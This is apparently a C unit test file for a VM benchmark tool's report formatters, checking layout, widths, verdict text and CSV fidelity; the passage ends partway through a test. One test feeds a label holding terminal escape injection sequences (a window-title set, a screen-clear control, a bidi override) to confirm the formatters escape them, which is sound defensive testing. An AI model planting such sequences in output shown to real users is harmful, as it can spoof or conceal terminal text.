/* SPDX-License-Identifier: MIT */
/*
 * The text, Markdown and CSV emitters on hand-built report documents
 * (tests/fixtures/compare/report-*.json): every row's value, change, star
 * and verdict is shown, n/CoV/CI per compared cell, tables fit 120
 * columns, the guest evidence keeps the lines other tests grep, CSV reads
 * back exactly (RFC 4180 quoting, full precision, null as empty), strings
 * from guests never reach the output with a raw control character, and a
 * malformed document or a write error is refused.  The registry: the
 * five formats under their names in --help's order, its start-up check,
 * -o's extensions (any case, the last dot only), every format rendering
 * a document and refusing others, JSON as the document itself, text
 * following the width it is given.  A document made row by row
 * (vtb_report_doc) writes the same bytes, and no format but HTML holds
 * more than one row of its JSON at a time.
 */
#include <criterion/criterion.h>
#include <unistd.h>
#include <jansson.h>
#include <math.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>

#include "../../reports/recommend.h"
#include "../../reports/report.h"
#include "../../common/vtbutil.h"

static json_t *load(const char *name)
{
	const char *src = getenv("SRCDIR");
	char *p = vtb_asprintf("%s/tests/fixtures/compare/report-%s.json", src ? src : ".", name);
	json_error_t e;
	json_t *d;

	cr_assert_not_null(p);
	d = json_load_file(p, 0, &e);
	cr_assert_not_null(d, "%s: %s", p, e.text);
	free(p);
	return d;
}

/* The output of format @fmt (found in the registry) on @doc with
 * options @o (NULL: the defaults); *ret gets its return value. */
static char *render_opts(const char *fmt, const json_t *doc, const struct vtb_report_opts *o,
			 int *ret)
{
	const struct vtb_report_ops *r = vtb_report_find(fmt);
	char *buf = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&buf, &len);

	cr_assert_not_null(r, "no format '%s'", fmt);
	cr_assert_not_null(f);
	*ret = r->render(doc, o, f);
	cr_assert_eq(fclose(f), 0);
	return buf;
}

static char *render_ret(const char *fmt, const json_t *doc, int *ret)
{
	return render_opts(fmt, doc, NULL, ret);
}

static char *render(const char *fmt, const json_t *doc)
{
	int ret;
	char *s = render_ret(fmt, doc, &ret);

	cr_assert_eq(ret, 0, "emitter failed: %s", vtb_errmsg());
	return s;
}

#define assert_has(hay, needle) \
	cr_assert_not_null(strstr((hay), (needle)), "missing '%s' in:\n%s", (needle), (hay))
#define assert_lacks(hay, needle) \
	cr_assert_null(strstr((hay), (needle)), "unexpected '%s' in:\n%s", (needle), (hay))

/* The renderings' number formats, for expectations computed from a row. */
static char *num(double v)
{
	if (fabs(v) >= 1000 && fabs(v) < 1e9)
		return vtb_asprintf("%.0f", v);
	return vtb_asprintf("%.4g", v);
}

/* The verdict as a table shows it: "worse confirmed" when confirmed. */
static char *short_verdict(const json_t *r)
{
	const char *v = json_string_value(json_object_get(r, "verdict"));

	return vtb_asprintf("%s%s", v,
			    json_is_true(json_object_get(r, "confirmed")) ? " confirmed" : "");
}

static double jnum_at(const json_t *o, const char *path)
{
	return json_number_value(json_object_get(o, path));
}

/* Text: "18504 (-11.6%)*" (the verdict follows after padding); Markdown:
 * "18504 (-11.6%)\* worse confirmed"; a row without a change (missing): "- missing". */
static char *expected_cell(const json_t *r, bool md)
{
	const json_t *m = json_object_get(json_object_get(json_object_get(r, "x"), "summary"),
					  "mean");
	char *v = json_is_number(m) ? num(json_number_value(m)) : vtb_strdup("-");
	bool sig = json_is_true(json_object_get(r, "significant"));
	char *w = short_verdict(r), *s;

	if (!json_is_number(json_object_get(r, "change_pct")))
		s = vtb_asprintf("%s %s", v, w);
	else
		s = vtb_asprintf("%s (%+.1f%%)%s%s%s", v, jnum_at(r, "change_pct"),
				 sig ? (md ? "\\*" : "*") : "", md ? " " : "", md ? w : "");
	free(v);
	free(w);
	return s;
}

/* Terminal columns of a line: one per code point. */
static size_t width_of(const char *s)
{
	size_t w = 0;

	for (; *s; s++)
		w += ((unsigned char)*s & 0xc0) != 0x80;
	return w;
}

static void assert_no_raw_controls(const char *s, const char *what)
{
	for (const unsigned char *p = (const unsigned char *)s; *p; p++)
		cr_assert((*p >= 0x20 && *p != 0x7f) || *p == '\n',
			  "%s: raw control byte 0x%02x at offset %td", what, *p,
			  (const char *)p - s);
}

Test(report_text, header_names_campaign_host_cpu_accelerator_options_and_the_tcg_note)
{
	json_t *d = load("own");
	char *s = render("text", d);

	assert_has(s, "campaign     5f0c2a9e-1d4b-4c7e-9a51-0b3e2f6d7c81");
	assert_has(
		s,
		"host         bench1, cpu AMD EPYC 7302P 16-Core Processor, kernel 6.1.0-57-amd64");
	assert_has(s, "accelerator  tcg, libvirt 9.0.0, qemu 7.2.19");
	/* folded at 100 columns, before any table */
	assert_has(
		s,
		"note: guests ran under TCG (software emulation): these ratios measure QEMU's emulator, not\n      virtualization overhead\n");
	cr_assert_lt(strstr(s, "note: guests ran under TCG"), strstr(s, "\nmetric "));
	assert_has(s, "threshold 5%, alpha 0.05 (intervals at 95%), noisy above CoV 5%/5%/20%");
	assert_has(s, "c3   = vm vcpus=2 topology=flat sched=lazy,\"nohz\" (vm, pCPUs 2-3)");
	cr_assert(!strncmp(s, "vtbench compare: guest vs host", 30), "first line: %.60s", s);
	free(s);
	json_decref(d);
}

Test(report_text, no_tcg_note_under_kvm_and_the_against_campaign_is_named)
{
	json_t *d = load("against");
	char *s = render("text", d);

	assert_lacks(s, "TCG");
	assert_has(s, "against      0c7d4e12-8a3b-4f5e-b6a7-1d2e3f405162");
	assert_has(
		s,
		"\n  c2   = vm vcpus=2 topology=cores pinning=strict (vm, pCPUs 2-3, campaign 0c7d4e12, against)\n");
	assert_has(
		s,
		"\n  c4   = vm vcpus=2 topology=cores pinning=strict (vm, pCPUs 2-3, campaign 9e8d7c6b)\n");
	/* the evidence is this campaign's configuration */
	assert_has(s, "\nc4 = vm vcpus=2 topology=cores pinning=strict\n  told ");
	/* the injected slowdown */
	assert_has(s, "\nseconds (-)  s     0.5246        0.5701 (+8.7%)* worse confirmed");
	free(s);
	json_decref(d);
}

Test(report_text, every_row_shows_value_change_star_and_verdict)
{
	static const char *const docs[] = { "own", "against", "noci" };

	for (size_t k = 0; k < 3; k++) {
		json_t *d = load(docs[k]), *r;
		char *s = render("text", d);
		size_t i;

		json_array_foreach(json_object_get(d, "rows"), i, r)
		{
			char *want = expected_cell(r, false);

			assert_has(s, want);
			free(want);
		}
		free(s);
		json_decref(d);
	}
}

Test(report_text, baseline_first_then_compared_configurations_with_verdict_words)
{
	json_t *d = load("own");
	char *s = render("text", d);

	assert_has(s, "\nstream (membw), baseline c1\nmetric     unit  c1 (base)     c2 ");
	/* confirmed: the whole interval beyond the threshold */
	assert_has(s, "\ncopy (+)   MB/s  20938         18504 (-11.6%)* worse confirmed");
	/* significant but within the threshold: a star, and same */
	assert_has(s, "20480 (-2.2%)* same");
	assert_has(s, "5.238 (-13.1%)* better confirmed");
	assert_has(s, "0.4351 (+7.2%)* worse\n");
	/* a noisy row is a note beside its interval, not a verdict */
	assert_has(s, "5.444 (-9.7%)   inconclusive");
	assert_has(s, "n=5 cov 69.7% ci -76.5%..+246.1% noisy");
	assert_has(s, "0.4687 (+15.5%) inconclusive");
	assert_has(s, "timer_avg (-)");
	/* n, CoV and the CI under the value */
	assert_has(
		s,
		"\n                 n=5 cov 0.6%  n=5 cov 0.7% ci -12.5%..-10.8%   n=5 cov 1.2% ci -3.7%..-0.7%\n");
	assert_has(s, "n=2 cov 3.3%");
	assert_has(s, "\nstream (membw), baseline c4\n");
	/* a cell that failed in every boot of the VM: missing */
	assert_has(s, "\nseconds (-)  s     0.2195        - missing\n");
	/* the answer first: the verdicts counted on the report's third line */
	assert_has(
		s,
		"\n\n16 rows: 4 worse (3 confirmed), 1 better (1 confirmed), 7 same, 3 inconclusive, 0 few, 1 missing, 0\nerror\n");
	cr_assert_lt(strstr(s, "16 rows:"), strstr(s, "\nconfigurations\n"));
	/* and the rows that could not be decided, with why, after the tables */
	assert_has(
		s,
		"\nrows not decided, and why:\n  timer timer_avg (us), c2 vs c1: inconclusive: change -9.7%, ci -76.5%..+246.1% reaches past +-5%\n  (noisy) at n=5 vs 5; about 433 boots a side would decide it at this spread\n");
	assert_has(
		s,
		"\n  messaging groups=4 seconds (s), c5 vs c4: missing: 'vm vcpus=4 topology=mirror pinning=strict'\n  failed in all 5 boots: hackbench: cannot create 160 processes\n");
	cr_assert_gt(strstr(s, "rows not decided"), strstr(s, "\nmetric "));
	free(s);
	json_decref(d);
}

Test(report_text, a_row_of_too_few_boots_has_no_interval_and_says_why)
{
	json_t *d = load("noci");
	char *s = render("text", d);

	assert_has(s, "30.93 (+2.8%) few");
	assert_has(s, "n=1 cov 0.0% ci -\n");
	assert_has(
		s,
		"timer timer_max (us), c3 vs c1: few: 1 boot against 4: not judged, the t test needs at least 2 a\n");
	assert_lacks(s, "nan");
	assert_has(s, "along topology");
	free(s);
	json_decref(d);
}

Test(report_text, guest_evidence_keeps_the_lines_tests_grep)
{
	json_t *d = load("own");
	char *s = render("text", d);

	assert_has(s, "\nguest evidence (per VM configuration");
	assert_has(s, "\nc2 = vm vcpus=2 topology=cores pinning=strict\n");
	assert_has(
		s,
		"\n  told     1 socket(s) x 1 die(s) x 2 core(s) x 1 thread(s), pinning strict\n");
	assert_has(s, "\n  claims   smt vcpus 0-1 absent; llc vcpus 0-1 shared\n");
	assert_has(s, "\n  guest    levels MC (5 of 5 boots), kernel 6.1.0-57-amd64\n");
	assert_has(s, "\n  checked  5 of 5 boots as planned, 0 unexpected-topology, 0 unchecked\n");
	assert_has(
		s,
		"\n  ran      off the planned pCPU 0.2% mean, 1.1% max; LLC groups across LLCs 0.0%\n");
	assert_has(s, "levels none (1 of 5 boots)");
	assert_has(s, "4 of 5 boots as planned, 1 unexpected-topology, 0 unchecked: cpu1");
	assert_has(s, "SMT pairs on different cores 3.1%");
	assert_has(s, "\n  guest    no sched-domain view recorded\n");
	assert_has(s, "\n  ran      no host-side placement samples\n");
	free(s);
	json_decref(d);
}

Test(report_text, guest_strings_are_escaped)
{
	json_t *d = load("own");
	char *s = render("text", d);

	assert_has(s, "levels SMT\\x1b[31mMC (4 of 5 boots)");
	assert_has(s, " 6.1.0-57-amd64\\x07\n");
	assert_has(s, ": cpu1: thread_siblings\n           1\\nwant 0-1\\r\n");
	assert_no_raw_controls(s, "text");
	free(s);
	json_decref(d);
}

Test(report, no_format_writes_a_raw_control_character)
{
	static const char *const docs[] = { "own", "against", "noci" };
	static const char *const fns[] = { "text", "md", "csv" };

	for (size_t k = 0; k < 3; k++) {
		json_t *d = load(docs[k]);

		for (size_t f = 0; f < 3; f++) {
			char *s = render(fns[f], d);

			assert_no_raw_controls(s, docs[k]);
			free(s);
		}
		json_decref(d);
	}
}

/* Terminal escapes, bytes that are not UTF-8, C1 controls and bidi
 * overrides in a label: escaped; valid UTF-8 stays. */
Test(report, hostile_strings_are_escaped_in_every_format)
{
	json_t *d = load("noci");
	json_t *cfg = json_array_get(json_object_get(d, "configs"), 1);
	static const char *const fns[] = { "text", "md", "csv" };

	json_object_set_new(cfg, "label",
			    json_string("evil\x1b]0;owned\x07 \xc2\x9b"
					"2J \xe2\x80\xae"
					"rtl b\xc3\xa9zier\\"));
	for (size_t f = 0; f < 3; f++) {
		char *s = render(fns[f], d);

		assert_no_raw_controls(s, "hostile");
		assert_lacks(s, "\xc2\x9b");
		assert_lacks(s, "\xe2\x80\xae");
		assert_has(
			s,
			f == 1 ? "evil\\\\x1b\\]0;owned\\\\x07 \\\\u009b2J \\\\u202ertl b\xc3\xa9zier\\\\\\\\"
			       : "evil\\x1b]0;owned\\x07 \\u009b2J \\u202ertl b\xc3\xa9zier\\\\");
		free(s);
	}
	/* not UTF-8: the byte, escaped */
	json_object_set_new(cfg, "label", json_stringn_nocheck("bad \xff byte", 10));
	for (size_t f = 0; f < 3; f++) {
		char *s = render(fns[f], d);

		assert_has(s, f == 1 ? "bad \\\\xff byte" : "bad \\xff byte");
		free(s);
	}
	json_decref(d);
}

/* Tables wider than the width are split: every line fits, and every
 * configuration still gets its column (80 columns, and 100 by default). */
Test(report_text, wide_tables_are_split_at_the_width)
{
	json_t *d = load("own");
	json_t *rows = json_object_get(d, "rows"), *configs = json_object_get(d, "configs"), *r;
	char *s, *line, *save = NULL;
	size_t i, n = json_array_size(rows);
	bool in_table = false;

	/* eight more compared configurations beside c2 in every c2 row */
	for (int k = 0; k < 8; k++) {
		json_t *c = json_deep_copy(json_array_get(configs, 1));
		char key[32], label[64];

		snprintf(key, sizeof(key), "%016x", 0xabc0 + k);
		snprintf(label, sizeof(label), "vm vcpus=2 topology=cores pinning=strict extra=%d",
			 k);
		json_object_set_new(c, "key", json_string(key));
		json_object_set_new(c, "label", json_string(label));
		json_array_append_new(configs, c);
		for (i = 0; i < n; i++) {
			r = json_array_get(rows, i);
			if (strcmp(json_string_value(
					   json_object_get(json_object_get(r, "x"), "config")),
				   "0f1e2d3c4b5a6978"))
				continue;
			r = json_deep_copy(r);
			json_object_set_new(json_object_get(r, "x"), "config", json_string(key));
			json_array_append_new(rows, r);
		}
	}
	for (int w = 80; w <= 100; w += 20) {
		struct vtb_report_opts o = { .columns = (size_t)w };
		int ret;

		/* 100: the default (no options) */
		s = render_opts("text", d, w == 80 ? &o : NULL, &ret);
		cr_assert_eq(ret, 0, "%s", vtb_errmsg());
		for (int k = 6; k <= 13; k++) {
			char *h = vtb_asprintf("  c%d", k);

			assert_has(s, h);
			free(h);
		}
		for (line = strtok_r(s, "\n", &save); line; line = strtok_r(NULL, "\n", &save)) {
			if (!strncmp(line, "metric ", 7))
				in_table = true;
			else if (!strncmp(line, "* significant", 13) ||
				 !strncmp(line, "stream", 6) || !strncmp(line, "timer", 5) ||
				 !strncmp(line, "messaging", 9))
				in_table = false;
			/* every line, tables or not (the fixture has no word wider) */
			cr_assert_leq(width_of(line), (size_t)w, "%s line of %zu columns: '%s'",
				      in_table ? "table" : "a", width_of(line), line);
			cr_assert(!strlen(line) || line[strlen(line) - 1] != ' ',
				  "trailing blank: '%s'", line);
		}
		free(s);
	}
	json_decref(d);
}

/* ---- widths (issue 25) ---------------------------------------------- */

/* The tests below run the old layout into an endless loop that grew its
 * buffer without bound: their alarm() turns the hang into a failure,
 * and this keeps the growth from taking the machine with it (not under
 * ASan, whose shadow memory is beyond any such limit). */
static void cap_memory(void)
{
#ifndef __SANITIZE_ADDRESS__
	struct rlimit r = { .rlim_cur = 2UL << 30, .rlim_max = 2UL << 30 };

	cr_assert_eq(setrlimit(RLIMIT_AS, &r), 0);
#endif
}

/* @s of @n characters @c, as a JSON string. */
static json_t *jrep(char c, size_t n)
{
	char *b = malloc(n + 1);
	json_t *j;

	cr_assert_not_null(b);
	memset(b, c, n);
	b[n] = 0;
	j = json_string(b);
	free(b);
	cr_assert_not_null(j);
	return j;
}

/* The "own" fixture with a "series" entry per row side (the
 * per-configuration summaries are text's widest table). */
static json_t *load_with_series(void)
{
	json_t *d = load("own"), *series = json_array(), *r;
	size_t i;

	json_array_foreach(json_object_get(d, "rows"), i, r)
	{
		json_t *x = json_object_get(r, "x");

		json_array_append_new(series, json_pack("{s:O, s:O, s:O, s:O, s:O, s:O}", "config",
							json_object_get(x, "config"), "cell",
							json_object_get(r, "cell"), "metric",
							json_object_get(r, "metric"), "unit",
							json_object_get(r, "unit"), "better",
							json_object_get(r, "better"), "summary",
							json_object_get(x, "summary")));
	}
	json_object_set_new(d, "series", series);
	return d;
}

/* The fixture with every name and label long: names of 100 characters, a
 * unit of 100, labels of 600 in one word, a host name of 300. */
static json_t *load_long(void)
{
	json_t *d = load_with_series(), *r, *g;
	size_t i;

	json_array_foreach(json_object_get(d, "rows"), i, r)
	{
		char *m = vtb_asprintf("%s_%090d", json_string_value(json_object_get(r, "metric")),
				       0);

		json_object_set_new(r, "metric", json_string(m));
		json_object_set_new(r, "unit", jrep('u', 100));
		json_object_set_new(r, "cell", jrep('c', 100));
		free(m);
	}
	json_array_foreach(json_object_get(d, "series"), i, r)
	{
		json_object_set_new(r, "metric", jrep('m', 100));
		json_object_set_new(r, "unit", jrep('u', 100));
		json_object_set_new(r, "cell", jrep('c', 100));
		json_object_set_new(r, "config", json_string("not-a-configuration"));
		json_object_set_new(r, "label", jrep('L', 600));
	}
	json_array_foreach(json_object_get(d, "configs"), i, g)
		json_object_set_new(g, "label", jrep('L', 600));
	json_object_set_new(json_object_get(d, "campaign"), "host", jrep('h', 300));
	json_object_set_new(json_object_get(d, "campaign"), "kernel", jrep('k', 300));
	return d;
}

/*
 * Checks report.h's promise on text rendered at @w (0: the default):
 * prose lines within max(w, VTB_REPORT_MIN_COLUMNS), table lines (from a
 * "metric" or "config" header to the next blank line) within max(w,
 * VTB_REPORT_TABLE_COLUMNS).  Returns the widest table line.
 */
static size_t check_widths(const char *s, size_t w, const char *what)
{
	size_t W = w ? w : VTB_REPORT_COLUMNS, widest = 0;
	const char *p = s;
	bool table = false;

	if (W < VTB_REPORT_MIN_COLUMNS)
		W = VTB_REPORT_MIN_COLUMNS;
	while (*p) {
		size_t n = strcspn(p, "\n");
		char *line = strndup(p, n);
		size_t lw = width_of(line);

		if (!strncmp(line, "metric  ", 8) || !strncmp(line, "config  ", 8))
			table = true;
		else if (!n)
			table = false;
		if (table) {
			cr_assert_leq(lw,
				      W > VTB_REPORT_TABLE_COLUMNS ? W : VTB_REPORT_TABLE_COLUMNS,
				      "%s at %zu: a table line of %zu columns: '%s'", what, w, lw,
				      line);
			widest = lw > widest ? lw : widest;
		} else {
			cr_assert_leq(lw, W, "%s at %zu: a line of %zu columns: '%s'", what, w, lw,
				      line);
		}
		free(line);
		p += n + (p[n] == '\n');
	}
	return widest;
}

/* Does a table of @s have a column "c@x"? */
static bool has_head(const char *s, int x)
{
	char *h = vtb_asprintf("  c%d", x);
	bool found = false;

	for (const char *p = s; !found && (p = strstr(p, h)); p += strlen(h))
		found = p[strlen(h)] == ' ' || p[strlen(h)] == '\n';
	free(h);
	return found;
}

/* Every width from none to 130 and a few wide ones: the report ends,
 * every line keeps the promise of report.h and every compared
 * configuration still gets its column.  The old layout wrapped a width
 * below zero from 50 columns down and never ended. */
Test(report_text, every_width_ends_and_every_line_fits)
{
	/* a hang guard (SIGALRM fails the test), not .timeout: two
	 * .timeout tests at once leak inside Criterion (LeakSanitizer) */
	alarm(30);
	json_t *doc[2] = { load_with_series(), load_long() };
	static const size_t wide[] = { 200, 400, 4000 };

	cap_memory();
	for (size_t k = 0; k < 2; k++) {
		for (size_t w = 0; w <= 130 + VTB_ARRAY_SIZE(wide); w++) {
			struct vtb_report_opts o = { .columns = w <= 130 ? w : wide[w - 131] };
			int ret;
			char *s = render_opts("text", doc[k], &o, &ret);

			cr_assert_eq(ret, 0, "%s", vtb_errmsg());
			check_widths(s, o.columns, k ? "long names" : "the fixture");
			/* c1 and c4 are the baselines */
			for (int x = 2; x <= 5; x += 1 + (x == 3))
				cr_assert(has_head(s, x), "%s at %zu: no column c%d in:\n%s",
					  k ? "long names" : "the fixture", o.columns, x, s);
			free(s);
		}
	}
	json_decref(doc[0]);
	json_decref(doc[1]);
}

/* At 40 columns a table of the fixture is still a table: the baseline's
 * column alone first, then each compared configuration's, the metric
 * name cut with '~' only when it does not fit beside them. */
Test(report_text, at_40_columns_the_baseline_stands_alone_and_names_are_cut)
{
	/* a hang guard (SIGALRM fails the test), not .timeout: two
	 * .timeout tests at once leak inside Criterion (LeakSanitizer) */
	alarm(20);
	json_t *d = load("own");
	struct vtb_report_opts o = { .columns = 40 };
	int ret;
	char *s;

	cap_memory();
	s = render_opts("text", d, &o, &ret);
	cr_assert_eq(ret, 0, "%s", vtb_errmsg());
	assert_has(
		s,
		"\nstream (membw), baseline c1\nmetric     unit  c1 (base)\ncopy (+)   MB/s  20938\n");
	assert_has(s, "\nmetric     unit  c2\ncopy (+)   MB/s  18504 (-11.6%)* worse confirmed\n");
	/* "timer_avg (-)" (13): cut to 12 beside a column of 31 */
	assert_has(s, "\nmetric        unit  c2\ntimer_avg (~  us    ");
	free(s);
	json_decref(d);
}

/* Figures at their widest in every cell (n, means, CoV, changes and
 * intervals of -1.2345e308, noisy, confirmed): at the narrowest width a
 * table of one column is exactly VTB_REPORT_TABLE_COLUMNS wide, the
 * bound text.c's constants promise. */
Test(report_text, the_widest_figures_make_the_widest_table)
{
	/* a hang guard (SIGALRM fails the test), not .timeout: two
	 * .timeout tests at once leak inside Criterion (LeakSanitizer) */
	alarm(20);
	json_t *d = load_long(), *r;
	struct vtb_report_opts o = { .columns = 1 };
	size_t i, widest;
	int ret;
	char *s;

	cap_memory();
	json_array_foreach(json_object_get(d, "rows"), i, r)
	{
		static const char *const num[] = { "change_pct", "ci_low_pct", "ci_high_pct" };
		json_t *sm = json_object_get(json_object_get(r, "x"), "summary");

		for (size_t k = 0; k < VTB_ARRAY_SIZE(num); k++)
			json_object_set_new(r, num[k], json_real(-1.2345e308));
		json_object_set_new(sm, "n", json_real(-1.2345e308));
		json_object_set_new(sm, "mean", json_real(-1.2345e308));
		json_object_set_new(sm, "cov", json_real(-1.2345e306));
		json_object_set_new(r, "verdict", json_string("better"));
		json_object_set_new(r, "confirmed", json_true());
		json_object_set_new(r, "significant", json_true());
		json_object_set_new(r, "noisy", json_true());
	}
	s = render_opts("text", d, &o, &ret);
	cr_assert_eq(ret, 0, "%s", vtb_errmsg());
	widest = check_widths(s, 1, "the widest figures");
	cr_expect_eq(widest, VTB_REPORT_TABLE_COLUMNS);
	assert_has(s, "n=-1.23e+308 cov -1.23e+308% ci -1.23e+308%..-1.23e+308% noisy");
	free(s);
	json_decref(d);
}

/* A guest's unit of 100 characters and a label of 600 are cut where they
 * are shown (64 and 512 columns, ending in '~'), in text and Markdown;
 * CSV keeps them whole. */
Test(report, long_fields_are_cut_where_shown_and_whole_in_csv)
{
	/* a hang guard (SIGALRM fails the test), not .timeout: two
	 * .timeout tests at once leak inside Criterion (LeakSanitizer) */
	alarm(20);
	json_t *d = load_long();
	/* Markdown escapes the '~' */
	char *u64 = vtb_asprintf("%.63s\\~",
				 "uuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuu"),
	     *u100 = vtb_asprintf("%0100d", 0);
	char *txt, *md, *csv;

	cap_memory();
	memset(u100, 'u', 100);
	txt = render("text", d);
	md = render("md", d);
	csv = render("csv", d);
	assert_has(md, u64);
	assert_lacks(md, u100);
	assert_lacks(txt, u100);
	assert_has(csv, u100);
	/* a label in one word: folded, whole up to 512 columns */
	cr_assert_null(
		strstr(txt,
		       "LLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLL"),
		"a label wider than the width is not folded");
	free(txt);
	free(md);
	free(csv);
	free(u64);
	free(u100);
	json_decref(d);
}

/* One unit of 50 MB in every row: the report stays the size of the
 * document without it (the old layout padded every line of a table to
 * the widest unit, 50 MB a line). */
Test(report, a_unit_of_50_mb_does_not_blow_up_the_report)
{
	/* a hang guard (SIGALRM fails the test), not .timeout: two
	 * .timeout tests at once leak inside Criterion (LeakSanitizer) */
	alarm(60);
	json_t *d = load("own"), *unit = jrep('u', 50u << 20), *r;
	const char *const fmts[] = { "text", "md" };
	size_t i;

	cap_memory();
	json_array_foreach(json_object_get(d, "rows"), i, r) json_object_set(r, "unit", unit);
	for (i = 0; i < VTB_ARRAY_SIZE(fmts); i++) {
		char *s = render(fmts[i], d);

		cr_assert_lt(strlen(s), 256u << 10, "%s: %zu bytes", fmts[i], strlen(s));
		free(s);
	}
	json_decref(unit);
	json_decref(d);
}

/* recommend's race round by round: a column per round that has a value,
 * whatever count of rounds the database claims (1e18 wrote a blank per
 * round; none converted a NaN to a size). */
Test(report_recommend, the_rounds_shown_are_the_rounds_with_values)
{
	/* a hang guard (SIGALRM fails the test), not .timeout: two
	 * .timeout tests at once leak inside Criterion (LeakSanitizer) */
	alarm(20);
	const json_t *claims[] = { json_real(1e18), json_null(), json_real(-3), json_integer(2) };

	cap_memory();
	for (size_t k = 0; k < VTB_ARRAY_SIZE(claims); k++) {
		json_t *d = json_pack("{s:s, s:{s:s, s:o, s:i, s:i}, s:{s:s, s:s}, s:[{s:s, s:s}],"
				      " s:[{s:s, s:s, s:[[i, i, i]], s:i}]}",
				      "schema", VTB_RECOMMEND_DOC_SCHEMA, "race", "stop", "rounds",
				      "rounds", json_deep_copy(claims[k]), "boots", 3, "candidates",
				      1, "campaign", "uuid", "u", "status", "done", "objective",
				      "cell", "spin", "metric", "seconds", "candidates", "label",
				      "vm a", "status", "winner", "values", 11, 12, 13,
				      "eliminated_round", 0);
		char *buf = NULL;
		size_t len = 0;
		FILE *f = open_memstream(&buf, &len);

		cr_assert_not_null(d);
		cr_assert_eq(vtb_recommend_text(d, NULL, f), 0, "%s", vtb_errmsg());
		cr_assert_eq(fclose(f), 0);
		cr_assert_lt(len, 4096u, "rounds %zu: %zu bytes", k, len);
		assert_has(buf, "\n  c1 = vm a (winner)\n");
		assert_has(buf, k == 3 ? "\n  round   1   2\n  c1     11  12\n"
				       : "\n  round   1   2   3\n  c1     11  12  13\n");
		free(buf);
		json_decref(d);
	}
	for (size_t k = 0; k < VTB_ARRAY_SIZE(claims); k++)
		json_decref((json_t *)claims[k]);
}

/* The recommend document the CLI golden holds for the generated race
 * (tests/cli/recommend_golden.sh keeps it what recommend writes for
 * mkfixture's race): three candidates under TCG, two losers with their
 * setups. */
static json_t *load_recommend(void)
{
	const char *src = getenv("SRCDIR");
	char *p = vtb_asprintf("%s/tests/cli/expected/recommend-race.json", src ? src : ".");
	json_error_t e;
	json_t *d;

	cr_assert_not_null(p);
	d = json_load_file(p, 0, &e);
	cr_assert_not_null(d, "%s: %s", p, e.text);
	free(p);
	return d;
}

static char *recommend_text(const json_t *d, size_t columns)
{
	struct vtb_report_opts o = { .columns = columns };
	char *buf = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&buf, &len);

	cr_assert_not_null(f);
	cr_assert_eq(vtb_recommend_text(d, &o, f), 0, "%s", vtb_errmsg());
	cr_assert_eq(fclose(f), 0);
	return buf;
}

/* The widest line of @s, in code points (the text is what a terminal
 * shows: one column each) */
static size_t widest_line(const char *s)
{
	size_t w = 0, cur = 0;

	for (; *s; s++) {
		if (*s == '\n') {
			w = cur > w ? cur : w;
			cur = 0;
		} else if (((unsigned char)*s & 0xc0) != 0x80) {
			cur++;
		}
	}
	return cur > w ? cur : w;
}

/* recommend's text at every width from 0 to 130, on the race and on a
 * race of 12 rounds with long labels: every line within max(W, 40) (0:
 * the default 100); the race table splits by rounds and loses none. */
Test(report_recommend, every_line_fits_the_width_and_the_race_table_splits_by_rounds)
{
	json_t *race = load_recommend(), *long_race = json_deep_copy(race), *c;
	size_t i;

	alarm(60);
	cap_memory();
	/* 12 rounds of figures at their widest, labels of 600 with a word of 300 */
	json_array_foreach(json_object_get(long_race, "candidates"), i, c)
	{
		json_t *vals = json_array();
		char *label = vtb_asprintf("vm %0300d sched=p%zu and more words", 7, i);

		for (int r = 0; r < (i ? 9 : 12); r++)
			json_array_append_new(vals, r == 4 ? json_null()
							   : json_real(-1.234e308 / (r + 1)));
		json_object_set_new(c, "values", json_pack("[o]", vals));
		json_object_set_new(c, "label", json_string(label));
		free(label);
	}
	json_object_set_new(json_object_get(long_race, "race"), "rounds", json_integer(12));
	for (size_t k = 0; k < 2; k++) {
		const json_t *d = k ? long_race : race;

		for (size_t w = 0; w <= 130; w++) {
			char *s = recommend_text(d, w);
			size_t want = w ? (w < 40 ? 40 : w) : 100;

			cr_expect_leq(widest_line(s), want, "doc %zu, width %zu: a line of %zu", k,
				      w, widest_line(s));
			if (k && w == 40) {
				/* every round in one of the tables, in order */
				char *p = s, *end;
				int next = 1, tables = 0;

				/* a table's header: "  round" and round numbers */
				while ((p = strstr(p, "\n  round "))) {
					p += strlen("\n  round ");
					if (p[strspn(p, "0123456789 ")] != '\n')
						continue;
					tables++;
					for (long r; (r = strtol(p, &end, 10)), end != p; p = end)
						cr_expect_eq(r, next++, "round %ld", r);
				}
				cr_expect_eq(next, 13, "rounds shown: %d", next - 1);
				cr_expect_geq(tables, 2, "%d tables at 40 columns", tables);
				assert_has(s, "-");
			}
			free(s);
		}
	}
	json_decref(race);
	json_decref(long_race);
}

/* Each loser: its profile as applied and its levels per CPU beside the
 * winner's; the evidence slot (null or an empty list) writes nothing;
 * compare's TCG note only under TCG. */
Test(report_recommend, a_loser_is_explained_by_its_setup_and_the_tcg_note_is_compares)
{
	json_t *d = load_recommend(), *e;
	char *s = recommend_text(d, 1000), *t;
	size_t i;

	assert_has(s, "\n    sched profile isolate, as applied in all 3 boots: cmdline isolcpus=1 "
		      "(present); no knobs\n");
	assert_has(s, "\n      its:          cpu0-1: none (3 of 3 boots, tree 9d0a2f92348f)\n"
		      "      the winner's: cpu0-1: MC (3 of 3 boots, tree 19e891631cdc)\n");
	assert_has(s, "\nnote: guests ran under TCG (software emulation): these ratios measure "
		      "QEMU's emulator, not virtualization overhead\n");
	/* the counters farthest from the winner's, in compare's words */
	assert_has(s, "\n    scheduler counters, cell wakeup, farthest from the winner's: the winner "
		      "balanced at MC 60 times a second, this setup never; ");
	json_array_foreach(json_object_get(d, "eliminations"), i, e)
	{
		cr_assert(json_array_size(json_object_get(json_object_get(e, "setup"), "evidence")));
		json_object_set_new(json_object_get(e, "setup"), "evidence", json_array());
	}
	t = recommend_text(d, 1000);
	assert_lacks(t, "scheduler counters");
	json_array_foreach(json_object_get(d, "eliminations"), i, e)
	json_object_set_new(json_object_get(e, "setup"), "evidence", json_null());
	{
		char *u = recommend_text(d, 1000);

		cr_expect_str_eq(u, t, "an empty evidence list writes what null does");
		free(u);
	}
	free(t);
